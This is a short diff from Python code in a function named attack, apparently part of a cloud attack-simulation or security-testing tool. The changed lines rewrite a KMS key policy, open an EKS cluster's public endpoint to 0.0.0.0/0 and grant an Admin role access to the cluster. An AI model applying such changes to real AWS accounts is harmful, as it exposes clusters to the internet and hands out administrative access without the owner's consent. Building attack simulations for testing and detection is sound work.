@@ -110,7 +110,8 @@ def attack(project: Project) -> None:
         },
     ]
     kms.put_key_policy(KeyId=key, PolicyName="default", Policy=policy(*statements))
-    eks.update_cluster_config(name=CLUSTER, resourcesVpcConfig={"endpointPublicAccess": True})
+    opened = {"endpointPublicAccess": True, "publicAccessCidrs": ["0.0.0.0/0"]}
+    eks.update_cluster_config(name=CLUSTER, resourcesVpcConfig=opened)
     eks.associate_access_policy(
         clusterName=CLUSTER,
         principalArn=f"arn:aws:iam::{ACCOUNT}:role/Admin",
